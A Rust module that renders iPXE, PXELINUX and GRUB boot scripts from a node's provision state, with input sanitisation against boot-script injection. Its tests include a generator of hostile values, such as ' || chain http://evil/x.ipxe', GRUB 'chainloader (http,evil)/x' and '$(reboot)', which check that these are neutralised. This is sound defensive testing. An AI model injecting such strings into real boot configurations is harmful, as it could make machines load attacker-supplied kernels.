//! Boot config rendering: what a node should boot, decided from its provision state, and that
//! decision written as an iPXE script, a PXELINUX config or a GRUB config.
//!
//! Pure functions of the node and the settings, so every replica renders the same bytes from
//! the same database row and nothing per node is written to disk.

use std::fmt::Write as _;

use deploy::hardware::BootIface;
use deploy::ids::MacAddress;
use deploy::model::JsonObject;
use deploy::{Node, ProvisionState};
use serde_json::Value;

use crate::config::{PxeConfig, UnknownMac};

/// A boot config format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// iPXE script.
    Ipxe,
    /// PXELINUX config.
    Pxelinux,
    /// GRUB config.
    Grub,
}

/// A kernel and initrd to boot, each a name under the boot roots or a URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KernelBoot {
    /// Kernel name or URL.
    pub kernel: String,
    /// Ramdisk name or URL.
    pub ramdisk: String,
    /// Kernel command line, without `initrd=` (each format adds its own).
    pub args: String,
    /// Name iPXE gives the initrd (`initrd=<name>` on the command line).
    pub initrd_name: &'static str,
}

/// What a machine should do when it network-boots.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BootAction {
    /// Boot the deploy/rescue/discovery ramdisk.
    Ramdisk(KernelBoot),
    /// Boot the instance's own kernel (`boot_option=netboot`).
    Instance(KernelBoot),
    /// Boot from the local disk.
    LocalDisk {
        /// Whether the node boots in UEFI mode (no BIOS `sanboot` drive).
        uefi: bool,
    },
    /// Leave network boot; the firmware tries its next boot device.
    Exit,
}

/// A fresh `req-<uuid>` id, as Ironic's global request ids look.
pub fn new_request_id() -> String {
    format!("req-{}", uuid::Uuid::new_v4())
}

fn str_field<'a>(obj: &'a JsonObject, key: &str) -> Option<&'a str> {
    obj.get(key).and_then(Value::as_str).map(str::trim).filter(|s| !s.is_empty())
}

/// `capabilities` as Ironic stores it: a JSON object, a JSON string of one, or `k:v,k:v`.
fn capability(obj: &JsonObject, key: &str) -> Option<String> {
    match obj.get("capabilities")? {
        Value::Object(map) => map.get(key).and_then(Value::as_str).map(str::to_owned),
        Value::String(s) => {
            if let Ok(Value::Object(map)) = serde_json::from_str::<Value>(s) {
                return map.get(key).and_then(Value::as_str).map(str::to_owned);
            }
            s.split(',')
                .filter_map(|kv| kv.split_once(':'))
                .find(|(k, _)| k.trim() == key)
                .map(|(_, v)| v.trim().to_owned())
        }
        _ => None,
    }
}

/// Whether the node's instance boots over the network (`boot_option=netboot`).
pub fn is_netboot(node: &Node) -> bool {
    let opt = str_field(&node.instance_info, "boot_option")
        .map(str::to_owned)
        .or_else(|| capability(&node.instance_info, "boot_option"))
        .or_else(|| capability(&node.properties, "boot_option"));
    opt.as_deref() == Some("netboot")
}

fn is_uefi(node: &Node) -> bool {
    let mode = node
        .boot_mode
        .clone()
        .or_else(|| capability(&node.instance_info, "boot_mode"))
        .or_else(|| capability(&node.properties, "boot_mode"));
    mode.as_deref() == Some("uefi")
}

/// Whether `c` may appear in a kernel argument. Node fields (`kernel_append_params` in
/// `driver_info` or `instance_info`) reach iPXE, GRUB and PXELINUX scripts, whose syntax
/// gives meaning to `$ ; | & { } # " ' \` and line breaks (`||`/`&&` chain iPXE commands,
/// `;` and `}` end GRUB commands and blocks, `${…}` expands settings): none of those is
/// allowed, so a crafted value can only ever be an argument, never a command.
fn safe_arg_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "._-,:/=+@%~".contains(c)
}

/// Whether `c` may appear in a kernel or ramdisk reference (a file name or an http URL).
fn safe_ref_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "._-,:/=+@%~?".contains(c)
}

/// A kernel or ramdisk reference that is safe to put in a boot script.
fn safe_ref(s: &str) -> bool {
    !s.is_empty() && s.chars().all(safe_ref_char)
}

/// Split `parts` into kernel arguments and keep those made of safe characters only; a
/// dropped argument is logged (it can only come from a crafted or broken node field).
pub(crate) fn join_args<'a>(parts: impl IntoIterator<Item = &'a str>) -> String {
    let mut out: Vec<&str> = Vec::new();
    for arg in parts.into_iter().flat_map(str::split_whitespace) {
        if arg.chars().all(safe_arg_char) {
            out.push(arg);
        } else {
            tracing::warn!(arg = %arg.escape_debug(), "kernel argument with boot-script syntax dropped");
        }
    }
    out.join(" ")
}

/// The ramdisk command line shared by deploy, discovery and rescue.
fn ramdisk_args(
    cfg: &PxeConfig,
    mac: Option<MacAddress>,
    append: &str,
    request_id: &str,
) -> String {
    let api = cfg.api_base();
    let bootif = mac.map(|m| format!("BOOTIF=01-{}", m.hyphenated())).unwrap_or_default();
    join_args([
        format!("ferric.api_url={api}").as_str(),
        format!("ipa-api-url={api}").as_str(),
        bootif.as_str(),
        cfg.console.as_str(),
        format!("ipa-global-request-id={request_id}").as_str(),
        append,
    ])
}

/// The node's boot interface (`None` for an unknown hardware type).
pub fn boot_interface(node: &Node) -> Option<BootIface> {
    deploy::hardware::resolve(node, None).ok().map(|r| r.boot)
}

/// Decide what `node`, booting from `mac`, should boot.
pub fn decide(node: &Node, mac: MacAddress, cfg: &PxeConfig, request_id: &str) -> BootAction {
    let state = node.provision_state;
    if deploy::state::boots_ramdisk(state) {
        // A virtual-media node boots its ramdisk from the ISO its BMC inserted; a network
        // boot in the meantime must not start a ramdisk without the ISO's agent token.
        if boot_interface(node) == Some(BootIface::RedfishVirtualMedia) {
            return BootAction::Exit;
        }
        return ramdisk_boot(node, mac, cfg, request_id)
            .map_or(BootAction::Exit, BootAction::Ramdisk);
    }
    decide_outside_ramdisk(node, cfg)
}

/// The ramdisk a node in a ramdisk state boots (deploy, cleaning, inspection or rescue),
/// whatever carries it (a network boot config or a virtual-media ISO); `None` in other
/// states.
pub fn ramdisk_boot(
    node: &Node,
    mac: MacAddress,
    cfg: &PxeConfig,
    request_id: &str,
) -> Option<KernelBoot> {
    let state = node.provision_state;
    if !deploy::state::boots_ramdisk(state) {
        return None;
    }
    {
        let rescue = matches!(
            state,
            ProvisionState::Rescuing | ProvisionState::RescueWait | ProvisionState::Rescue
        );
        let pick = |key: &str, default: &str| {
            let rescue_key = key.replace("deploy_", "rescue_");
            let chosen = rescue
                .then(|| str_field(&node.driver_info, &rescue_key))
                .flatten()
                .or_else(|| str_field(&node.driver_info, key))
                .unwrap_or(default);
            if safe_ref(chosen) {
                chosen.to_owned()
            } else {
                tracing::warn!(node = %node.uuid, key, "unsafe boot file reference; using the configured one");
                default.to_owned()
            }
        };
        let append = str_field(&node.driver_info, "kernel_append_params")
            .unwrap_or(&cfg.kernel_append_params);
        // An iSCSI deploy's ramdisk finds its one-time key and CHAP credentials in the
        // token file next to this config; the key itself never goes on the command line.
        let iscsi_token;
        let append = if deploy::iscsi::IscsiSession::active(node)
            && matches!(state, ProvisionState::Deploying | ProvisionState::WaitCallBack)
        {
            iscsi_token =
                format!("{append} ferric.iscsi_token_url={}/token/{}", cfg.http_base(), node.uuid);
            iscsi_token.as_str()
        } else {
            append
        };
        Some(KernelBoot {
            kernel: pick("deploy_kernel", &cfg.deploy_kernel),
            ramdisk: pick("deploy_ramdisk", &cfg.deploy_ramdisk),
            args: ramdisk_args(cfg, Some(mac), append, request_id),
            initrd_name: if rescue { "rescue_ramdisk" } else { "deploy_ramdisk" },
        })
    }
}

fn decide_outside_ramdisk(node: &Node, cfg: &PxeConfig) -> BootAction {
    let state = node.provision_state;
    match state {
        ProvisionState::Active | ProvisionState::Adopting | ProvisionState::Unrescuing => {
            if is_netboot(node) {
                let kernel = str_field(&node.instance_info, "kernel");
                let ramdisk = str_field(&node.instance_info, "ramdisk");
                if let (Some(kernel), Some(ramdisk)) = (kernel, ramdisk)
                    && safe_ref(kernel)
                    && safe_ref(ramdisk)
                {
                    let root = str_field(
                        &node.driver_internal_info,
                        deploy::internal_info::keys::ROOT_UUID_OR_DISK_ID,
                    )
                    .map(|r| format!("root=UUID={r} ro"))
                    .unwrap_or_default();
                    let append = str_field(&node.instance_info, "kernel_append_params")
                        .unwrap_or(&cfg.kernel_append_params);
                    return BootAction::Instance(KernelBoot {
                        kernel: kernel.to_owned(),
                        ramdisk: ramdisk.to_owned(),
                        args: join_args([root.as_str(), "text", append]),
                        initrd_name: "ramdisk",
                    });
                }
                tracing::warn!(node = %node.uuid, "netboot without usable instance_info kernel/ramdisk; booting from disk");
            }
            BootAction::LocalDisk { uefi: is_uefi(node) }
        }
        _ => BootAction::Exit,
    }
}

/// What an unknown MAC gets.
pub fn decide_unknown(cfg: &PxeConfig, request_id: &str) -> BootAction {
    match cfg.unknown_mac {
        UnknownMac::Exit => BootAction::Exit,
        UnknownMac::Discovery => {
            let append = format!("{} ferric.discovery=1", cfg.kernel_append_params);
            BootAction::Ramdisk(KernelBoot {
                kernel: cfg.deploy_kernel.clone(),
                ramdisk: cfg.deploy_ramdisk.clone(),
                args: ramdisk_args(cfg, None, &append, request_id),
                initrd_name: "deploy_ramdisk",
            })
        }
    }
}

fn is_url(s: &str) -> bool {
    s.contains("://")
}

/// A kernel/ramdisk reference as an HTTP URL (iPXE).
fn http_ref(cfg: &PxeConfig, name: &str) -> String {
    if is_url(name) {
        name.to_owned()
    } else {
        format!("{}/{}", cfg.http_base(), name.trim_start_matches('/'))
    }
}

/// A kernel/ramdisk reference for PXELINUX: relative to the TFTP root, or a URL (lpxelinux).
fn pxelinux_ref(name: &str) -> String {
    if is_url(name) { name.to_owned() } else { name.trim_start_matches('/').to_owned() }
}

/// A kernel/ramdisk reference for GRUB: an absolute TFTP path, or `(http,host:port)/path`.
fn grub_ref(name: &str) -> String {
    if let Some(rest) = name.strip_prefix("http://") {
        let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
        return format!("(http,{host})/{path}");
    }
    format!("/{}", name.trim_start_matches('/'))
}

/// Render `action` in `format`.
pub fn render(format: Format, action: &BootAction, cfg: &PxeConfig) -> String {
    match format {
        Format::Ipxe => render_ipxe(action, cfg),
        Format::Pxelinux => render_pxelinux(action),
        Format::Grub => render_grub(action, cfg),
    }
}

fn render_ipxe(action: &BootAction, cfg: &PxeConfig) -> String {
    let mut s = String::from("#!ipxe\n");
    let timeout = if cfg.ipxe_timeout_ms > 0 {
        format!("--timeout {} ", cfg.ipxe_timeout_ms)
    } else {
        String::new()
    };
    match action {
        BootAction::Ramdisk(k) | BootAction::Instance(k) => {
            let label =
                if matches!(action, BootAction::Ramdisk(_)) { "deploy" } else { "boot_instance" };
            // Retry with growing pauses like Ironic's template, then power off rather than loop.
            let _ = write!(
                s,
                "set attempts:int32 10\nset i:int32 0\n\n:{label}\nimgfree\n\
                 kernel {timeout}{kernel} {args} initrd={name} || goto retry\n\
                 initrd {timeout}--name {name} {ramdisk} || goto retry\nboot\n\n\
                 :retry\niseq ${{i}} ${{attempts}} && goto fail ||\ninc i\n\
                 echo No response, retrying in ${{i}} seconds.\nsleep ${{i}}\ngoto {label}\n\n\
                 :fail\necho Failed to get a response after ${{attempts}} attempts\n\
                 echo Powering off in 30 seconds.\nsleep 30\npoweroff\n",
                kernel = http_ref(cfg, &k.kernel),
                ramdisk = http_ref(cfg, &k.ramdisk),
                args = k.args,
                name = k.initrd_name,
            );
        }
        BootAction::LocalDisk { uefi } => {
            s.push_str("echo Booting from local disk\n");
            if !uefi {
                s.push_str("sanboot --no-describe --drive 0x80 || goto exit\n");
            }
            // Returning success makes boot.ipxe exit, so the firmware boots its next device.
            s.push_str(":exit\nexit 0\n");
        }
        BootAction::Exit => s.push_str("echo No network boot for this machine now\nexit 0\n"),
    }
    s
}

fn render_pxelinux(action: &BootAction) -> String {
    match action {
        BootAction::Ramdisk(k) | BootAction::Instance(k) => {
            let label =
                if matches!(action, BootAction::Ramdisk(_)) { "deploy" } else { "boot_instance" };
            format!(
                "default {label}\n\nlabel {label}\nkernel {kernel}\nappend initrd={ramdisk} {args}\nipappend 2\n",
                kernel = pxelinux_ref(&k.kernel),
                ramdisk = pxelinux_ref(&k.ramdisk),
                args = k.args,
            )
        }
        BootAction::LocalDisk { .. } => {
            "default boot_local\n\nlabel boot_local\nlocalboot 0\n".to_owned()
        }
        // -1: "boot failed", the BIOS moves on to its next boot device.
        BootAction::Exit => "default exit\n\nlabel exit\nlocalboot -1\n".to_owned(),
    }
}

fn render_grub(action: &BootAction, cfg: &PxeConfig) -> String {
    let mut s = String::from("set timeout=5\nset hidden_timeout_quiet=false\n");
    match action {
        BootAction::Ramdisk(k) | BootAction::Instance(k) => {
            let label =
                if matches!(action, BootAction::Ramdisk(_)) { "deploy" } else { "boot_instance" };
            let boot_server = match cfg.tftp_server_addr() {
                a if a.is_empty() => String::new(),
                a => format!(" boot_server={a}"),
            };
            let _ = write!(
                s,
                "set default={label}\n\nmenuentry \"{label}\" {{\n    linux {kernel} {args}{boot_server}\n    initrd {ramdisk}\n}}\n",
                kernel = grub_ref(&k.kernel),
                ramdisk = grub_ref(&k.ramdisk),
                args = k.args,
            );
        }
        BootAction::LocalDisk { .. } => s.push_str(
            "set default=boot_local\nset fallback=exit\n\nmenuentry \"boot_local\" {\n    \
             insmod part_gpt\n    insmod fat\n    insmod chain\n    \
             search --no-floppy --file --set=root /EFI/BOOT/BOOTX64.EFI\n    \
             chainloader /EFI/BOOT/BOOTX64.EFI\n    boot\n}\n\nmenuentry \"exit\" {\n    exit\n}\n",
        ),
        BootAction::Exit => s.push_str("set default=exit\n\nmenuentry \"exit\" {\n    exit\n}\n"),
    }
    s
}

/// NICs `boot.ipxe` tries, `net0` to `net7`.
const IPXE_NICS: usize = 8;

/// The global iPXE entry script: try each NIC's per-MAC script in turn (like Ironic's).
///
/// The loop over `netX` is unrolled into labels instead of using `inc`, so it also runs on
/// iPXE builds without integer settings. A chained script that returns success (a failed local
/// boot) makes this script `exit 0`, so the firmware moves on to its next boot device.
pub fn boot_ipxe(cfg: &PxeConfig) -> String {
    let base = cfg.http_base();
    let mut s = String::from(
        "#!ipxe\n# Ferric: chain the per-MAC script of the first NIC the database knows.\n\
         isset ${net0/mac} || goto old_rom\n",
    );
    for i in 0..IPXE_NICS {
        let next = if i + 1 < IPXE_NICS { format!("net{}", i + 1) } else { "no_config".to_owned() };
        let _ = write!(
            s,
            ":net{i}\nisset ${{net{i}/mac}} || goto no_config\n\
             echo Attempting to boot from MAC ${{net{i}/mac:hexhyp}}\n\
             chain {base}/pxelinux.cfg/${{net{i}/mac:hexhyp}} || goto {next}\nexit 0\n"
        );
    }
    let _ = write!(
        s,
        ":old_rom\nchain {base}/pxelinux.cfg/${{mac:hexhyp}} || goto no_config\nexit 0\n:no_config\n"
    );
    match cfg.unknown_mac {
        UnknownMac::Exit => s.push_str(
            "echo No configuration for any NIC of this machine: leaving network boot.\nexit 0\n",
        ),
        UnknownMac::Discovery => {
            let _ = write!(
                s,
                "echo Unknown machine: booting discovery.\nchain {base}/discovery.ipxe\n"
            );
        }
    }
    s
}

/// The GRUB master config: load the per-MAC config of the booting NIC.
pub fn grub_master() -> String {
    "set default=master\nset timeout=1\nset hidden_timeout_quiet=false\n\n\
     menuentry \"master\" {\n    configfile /grub.cfg-01-$net_default_mac\n}\n"
        .to_owned()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use deploy::NodeId;
    use deploy::state::ALL_STATES;
    use serde_json::json;

    use super::*;

    fn node_in(state: ProvisionState, netboot: bool) -> Node {
        let mut n = Node::new(NodeId::new_v4(), "fake-hardware", chrono::Utc::now());
        n.provision_state = state;
        if netboot {
            n.instance_info.insert("boot_option".into(), json!("netboot"));
            n.instance_info.insert("kernel".into(), json!("vmlinuz"));
            n.instance_info.insert("ramdisk".into(), json!("initrd"));
        }
        n
    }

    /// The states named in a cell of the README's state table (`active (also adopting,
    /// unrescuing) with …` names three).
    fn states_in(cell: &str) -> Vec<ProvisionState> {
        let names = cell.split(" with ").next().unwrap_or(cell).replace("(also ", ",");
        names
            .replace(')', "")
            .split(',')
            .filter_map(|s| s.trim().parse::<ProvisionState>().ok())
            .collect()
    }

    /// pxe-service's README documents what each provision state boots; every row of that
    /// table is checked against [`decide`], and every state it does not name must exit.
    #[test]
    fn test_readme_state_table_matches_decide() {
        let readme = include_str!("../README.md");
        let table: Vec<&str> = readme
            .lines()
            .skip_while(|l| !l.starts_with("| State | Boots |"))
            .skip(2)
            .take_while(|l| l.starts_with('|'))
            .collect();
        assert_eq!(table.len(), 5, "the README's state table changed shape: {table:?}");
        let cfg = PxeConfig::default();
        let mac: MacAddress = "52:54:00:12:34:56".parse().unwrap();
        let mut named = BTreeSet::new();
        for row in &table {
            let cells: Vec<&str> = row.split('|').map(str::trim).collect();
            let (cell, boots) = (cells[1], cells[2]);
            if cell.starts_with("anything else") {
                continue;
            }
            let states = states_in(cell);
            assert!(!states.is_empty(), "no state parsed from {cell:?}");
            for s in states {
                named.insert(s.as_str());
                let netboot = cell.contains("netboot");
                let got = decide(&node_in(s, netboot), mac, &cfg, "req-1");
                match got {
                    BootAction::Ramdisk(k) if boots.starts_with("deploy ramdisk") => {
                        assert_eq!(k.initrd_name, "deploy_ramdisk", "{s}");
                    }
                    BootAction::Ramdisk(k) if boots.starts_with("rescue ramdisk") => {
                        assert_eq!(k.initrd_name, "rescue_ramdisk", "{s}");
                    }
                    BootAction::Instance(_) if boots.starts_with("`instance_info.kernel`") => {}
                    BootAction::LocalDisk { .. } if boots.starts_with("iPXE `sanboot") => {}
                    other => panic!("README says {s} boots {boots:?}, decide gives {other:?}"),
                }
            }
        }
        for s in ALL_STATES.iter().filter(|s| !named.contains(s.as_str())) {
            assert_eq!(decide(&node_in(*s, false), mac, &cfg, "req-1"), BootAction::Exit, "{s}");
        }
    }

    /// Strings made to break out of a boot script: iPXE `||`/`&&` chains and `${}`
    /// expansion, GRUB `;`, `}` and `$`, PXELINUX directives on a new line, quotes and
    /// backslashes, mixed with ordinary kernel arguments.
    fn hostile() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let pieces = prop_oneof![
            Just(" || chain http://evil/x.ipxe".to_owned()),
            Just(" && shell".to_owned()),
            Just("\nshell\n".to_owned()),
            Just("\r\nkernel http://evil/k\r\n".to_owned()),
            Just("; insmod http; linux (http,evil)/k".to_owned()),
            Just("}\nmenuentry \"x\" { chainloader (http,evil)/x }".to_owned()),
            Just("${net0/mac}".to_owned()),
            Just("$(reboot)".to_owned()),
            Just("#comment".to_owned()),
            Just("\"quoted arg\"".to_owned()),
            Just("\\".to_owned()),
            Just("\nAPPEND evil=1\nLABEL x".to_owned()),
            Just("console=ttyS0,115200n8".to_owned()),
            Just("ipa-debug=1".to_owned()),
            "[ -~]{0,12}".prop_map(|s| s),
            any::<String>(),
        ];
        proptest::collection::vec(pieces, 0..6).prop_map(|v| v.join(" "))
    }

    /// The first word of every line of a rendered script: the commands it runs.
    fn commands(script: &str) -> Vec<String> {
        script.lines().map(|l| l.split_whitespace().next().unwrap_or("").to_owned()).collect()
    }

    proptest::proptest! {
        #![proptest_config(proptest::test_runner::Config { cases: 256, ..Default::default() })]

        /// Crafted `kernel_append_params`, deploy kernel/ramdisk and instance kernel/ramdisk
        /// render as harmless arguments in iPXE, GRUB and PXELINUX: the scripts have the
        /// same lines and commands as with benign values, and the argument lines carry no
        /// script syntax.
        #[test]
        fn test_node_fields_cannot_inject_boot_commands(
            append in hostile(),
            kernel in hostile(),
            ramdisk in hostile(),
            netboot in proptest::bool::ANY,
        ) {
            let cfg = PxeConfig::default();
            let mac: MacAddress = "52:54:00:12:34:56".parse().unwrap();
            let state = if netboot { ProvisionState::Active } else { ProvisionState::Deploying };
            let benign = node_in(state, netboot);
            let mut crafted = benign.clone();
            crafted.driver_info.insert("kernel_append_params".into(), json!(append));
            crafted.driver_info.insert("deploy_kernel".into(), json!(kernel));
            crafted.driver_info.insert("deploy_ramdisk".into(), json!(ramdisk));
            crafted.instance_info.insert("kernel_append_params".into(), json!(append));
            crafted.instance_info.insert("kernel".into(), json!(kernel));
            crafted.instance_info.insert("ramdisk".into(), json!(ramdisk));
            let a = decide(&crafted, mac, &cfg, "req-1");
            let b = decide(&benign, mac, &cfg, "req-1");
            for format in [Format::Ipxe, Format::Grub, Format::Pxelinux] {
                let got = render(format, &a, &cfg);
                let want = render(format, &b, &cfg);
                // A crafted instance kernel may fall back to the local disk: then compare
                // with that script.
                let want = if std::mem::discriminant(&a) == std::mem::discriminant(&b) {
                    want
                } else {
                    render(format, &a, &cfg)
                };
                proptest::prop_assert_eq!(commands(&got), commands(&want), "{}", got);
                for line in got.lines() {
                    let word = line.split_whitespace().next().unwrap_or("");
                    if matches!(word, "kernel" | "linux" | "append" | "initrd") {
                        let body = line.trim_start();
                        // The template's own `|| goto retry` is the only operator allowed.
                        let body = body.strip_suffix(" || goto retry").unwrap_or(body);
                        for bad in ["||", "&&", ";", "$", "{", "}", "#", "\"", "'", "\\", "\r"] {
                            proptest::prop_assert!(!body.contains(bad), "{:?} in {:?}", bad, line);
                        }
                    }
                }
            }
        }
    }

    /// Kernel parameters and kernel/ramdisk references from `fuzz/corpus/boot_script` and
    /// seeded mutations, in every node field that reaches a boot script: the scripts keep
    /// their commands, and kernel lines carry no script syntax.
    #[test]
    fn test_fuzz_corpus_boot_script_fields() {
        let cfg = PxeConfig::default();
        let mac: MacAddress = "52:54:00:12:34:56".parse().unwrap();
        common::testing::corpus::replay("boot_script", 300, 16, |bytes| {
            let value = String::from_utf8_lossy(bytes).into_owned();
            for netboot in [false, true] {
                let state =
                    if netboot { ProvisionState::Active } else { ProvisionState::Deploying };
                let benign = node_in(state, netboot);
                let mut crafted = benign.clone();
                for key in ["kernel_append_params", "deploy_kernel", "deploy_ramdisk"] {
                    crafted.driver_info.insert(key.into(), json!(value));
                }
                for key in ["kernel_append_params", "kernel", "ramdisk"] {
                    crafted.instance_info.insert(key.into(), json!(value));
                }
                let a = decide(&crafted, mac, &cfg, "req-1");
                for format in [Format::Ipxe, Format::Grub, Format::Pxelinux] {
                    let got = render(format, &a, &cfg);
                    if std::mem::discriminant(&a)
                        == std::mem::discriminant(&decide(&benign, mac, &cfg, "req-1"))
                    {
                        let want = render(format, &decide(&benign, mac, &cfg, "req-1"), &cfg);
                        assert_eq!(commands(&got), commands(&want), "{got}");
                    }
                    for line in got.lines() {
                        let word = line.split_whitespace().next().unwrap_or("");
                        if matches!(word, "kernel" | "linux" | "append" | "initrd") {
                            let body = line.trim_start();
                            let body = body.strip_suffix(" || goto retry").unwrap_or(body);
                            for bad in ["||", "&&", ";", "$", "{", "}", "#", "\"", "'", "\\", "\r"]
                            {
                                assert!(!body.contains(bad), "{bad:?} in {line:?}");
                            }
                        }
                    }
                }
            }
        });
    }
}
